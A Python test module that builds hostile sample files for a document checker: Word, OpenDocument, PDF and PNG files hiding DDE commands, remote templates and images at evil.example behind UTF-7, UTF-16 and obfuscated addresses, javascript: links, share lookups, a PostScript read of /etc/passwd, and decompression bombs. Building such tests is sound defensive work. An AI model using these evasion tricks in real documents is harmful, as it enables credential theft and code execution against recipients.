"""The same attacks where a checker may not look: under another ending, in another writing, by another way of saying an address."""

import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from tests import papers
from tests.files import programs
from tests.files.hostile import hostile
from tests.files.hostile_pdf import with_link

DDE = '<w:p><w:fldSimple w:instr=" DDE cmd x"/></w:p>'


def utf_7(text: str) -> bytes:
    """The marks of XML as letters."""
    return text.replace("<", "+ADw-").replace(">", "+AD4-").encode()


SHOWN = "<?xml version='1.0' encoding='{}'?>"

# --- Word ----------------------------------------------------------------------------------------------------------


@hostile("active", "cv.docx")
def text_under_another_ending() -> bytes:
    """The main part may have any name: what it is says the list of contents."""
    types = f'<Types xmlns="{papers.TYPES}"><Override PartName="/word/document.dat" ContentType="{papers.WORD}"/></Types>'
    text = f'<w:document xmlns:w="{papers.W}"><w:body>{DDE}</w:body></w:document>'
    return papers.docx(**{"[Content_Types].xml": types, "word__document.dat": text})


@hostile("active", "cv.docx")
def text_in_two_bytes_a_letter() -> bytes:
    text = f'{SHOWN.format("utf-16")}<w:document xmlns:w="{papers.W}"><w:body>{DDE}</w:body></w:document>'
    return papers.docx(**{"word__document.xml": text.encode("utf-16")})


@hostile("damaged", "cv.docx")
def text_in_a_writing_that_hides_its_marks() -> bytes:
    """In UTF-7 the marks of XML look like letters to whoever reads it as UTF-8."""
    text = f'<w:document xmlns:w="{papers.W}"><w:body>{DDE}</w:body></w:document>'
    return papers.docx(**{"word__header1.xml": SHOWN.format("utf-7").encode() + b"<w>" + utf_7(text) + b"</w>"})


@hostile("remote", "cv.docx")
def template_whose_address_is_written_in_numbers() -> bytes:
    return papers.docx(rels=papers.outside("attachedTemplate", "file:///%5c%5cevil.example/t.dotm"))


@hostile("remote", "cv.docx")
def template_by_the_web_as_a_folder() -> bytes:
    return papers.docx(rels=papers.outside("attachedTemplate", "davs://evil.example/t.dotm"))


@hostile("remote", "cv.docx")
def template_whose_address_is_broken_up() -> bytes:
    return papers.docx(rels=papers.outside("attachedTemplate", "ht&#9;tps://evil.example/t.dotm"))


@hostile("remote", "cv.docx")
def drawing_of_the_old_kind_from_an_address() -> bytes:
    shape = '<w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="https://evil.example/a.png"/></v:shape></w:pict>'
    return papers.docx(body=f"<w:p><w:r>{shape}</w:r></w:p>")


@hostile("active", "cv.docx")
def symbol_with_a_script() -> bytes:
    return papers.docx(**{"word__media__image1.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>a()</script></svg>'})


@hostile("remote", "cv.docx")
def symbol_that_fetches() -> bytes:
    image = '<image xmlns:x="http://www.w3.org/1999/xlink" x:href="https://evil.example/a.png"/>'
    return papers.docx(**{"word__media__image1.svg": f'<svg xmlns="http://www.w3.org/2000/svg">{image}</svg>'})


@hostile("damaged", "cv.docx")
def part_that_is_there_in_capitals_too() -> bytes:
    return papers.docx(**{"WORD__DOCUMENT.XML": f'<w:document xmlns:w="{papers.W}"/>'})


# --- OpenDocument --------------------------------------------------------------------------------------------------


@hostile("remote", "cv.odt")
def opendocument_with_a_picture_by_another_way() -> bytes:
    return papers.odt('<text:p><draw:frame><draw:image xlink:href="vnd.sun.star.webdavs://evil.example/a.png"/></draw:frame></text:p>')


@hostile("remote", "cv.odt")
def opendocument_with_a_picture_from_a_share_in_numbers() -> bytes:
    return papers.odt('<text:p><draw:frame><draw:image xlink:href="%5C%5Cevil.example%5Ca.png"/></draw:frame></text:p>')


@hostile("macros", "cv.odt")
def opendocument_link_to_a_script_broken_up() -> bytes:
    return papers.odt('<text:p><text:a xlink:href="vnd.sun.star.&#10;script:Standard.A?language=Basic">x</text:a></text:p>')


@hostile("damaged", "cv.odt")
def opendocument_in_a_writing_that_hides_its_marks() -> bytes:
    listener = utf_7("<s:event-listener xmlns:s='urn:oasis:names:tc:opendocument:xmlns:script:1.0' s:event-name='dom:load'/>")
    return papers.odt(**{"settings.xml": SHOWN.format("UTF-7").encode() + b"<a>" + listener + b"</a>"})


# --- PDF -----------------------------------------------------------------------------------------------------------


@hostile("active")
def link_with_a_script_in_two_bytes_a_letter() -> bytes:
    return with_link(Dictionary(S=Name.URI, URI=String(b"\xfe\xff" + "javascript:alert(1)".encode("utf-16-be"))))


@hostile("active")
def link_with_a_script_behind_a_mark_that_nobody_sees() -> bytes:
    return with_link(Dictionary(S=Name.URI, URI=String("\x01java\tscript:alert(1)")))


@hostile("active")
def link_that_searches_a_share() -> bytes:
    return with_link(Dictionary(S=Name.URI, URI=String("search-ms:query=cv&crumb=location:\\\\evil.example\\share")))


@hostile("active")
def link_to_a_share() -> bytes:
    return with_link(Dictionary(S=Name.URI, URI=String("file://evil.example/share/a.lnk")))


@hostile("active")
def drawing_that_is_a_program_for_the_printer() -> bytes:
    document = papers.blank()
    program = document.make_stream(b"(/etc/passwd) (r) file", Type=Name.XObject, Subtype=Name.PS)
    document.pages[0].Resources = Dictionary(XObject=Dictionary(P=program))
    return papers.saved(document)


@hostile("remote")
def page_of_another_document() -> bytes:
    """A drawing that stands for a page of a file elsewhere."""
    document = papers.blank()
    there = Dictionary(F=Dictionary(Type=Name.Filespec, FS=Name.URL, F=String("https://evil.example/a.pdf")), Page=0)
    drawing = document.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]), Ref=there)
    document.pages[0].Resources = Dictionary(XObject=Dictionary(P=drawing))
    return papers.saved(document)


@hostile("too_much")
def five_thousand_pages() -> bytes:
    """All of them the same one, in a kilobyte."""
    document = papers.blank()
    pages = document.Root.Pages
    pages.Kids, pages.Count = Array([document.pages[0].obj] * 5000), 5000
    return papers.saved(document, object_stream_mode=pikepdf.ObjectStreamMode.generate)


@hostile("damaged")
def page_packed_in_the_old_way() -> bytes:
    """Blanks without end, packed in a way that no program uses for a text: nobody unpacks it."""
    document = papers.blank()
    runs = b"\x81 " * 9_000_000  # 128 blanks for two bytes
    document.pages[0].obj.Contents = document.make_stream(
        zlib.compress(runs + b"\x80"), Filter=Array([Name.FlateDecode, Name.RunLengthDecode])
    )
    return papers.saved(document, compress_streams=False)


# --- Pictures ------------------------------------------------------------------------------------------------------


@hostile("other_picture", "bevis.png")
def screenshot_that_changes_after_a_while() -> bytes:
    other = Image.new("RGB", (1200, 900), "red")
    return programs.pillow("PNG", save_all=True, append_images=[other], duration=60_000)


@hostile("too_much", "bevis.png")
def note_in_a_picture_that_unpacks_to_a_gigabyte() -> bytes:
    pack = zlib.compressobj(9)
    packed = b"".join(pack.compress(bytes(1 << 20)) for _ in range(1000)) + pack.flush()
    note = b"Comment\0\0" + packed
    whole = programs.pillow("PNG")
    part = len(note).to_bytes(4) + b"zTXt" + note + zlib.crc32(b"zTXt" + note).to_bytes(4)
    return whole[:33] + part + whole[33:]
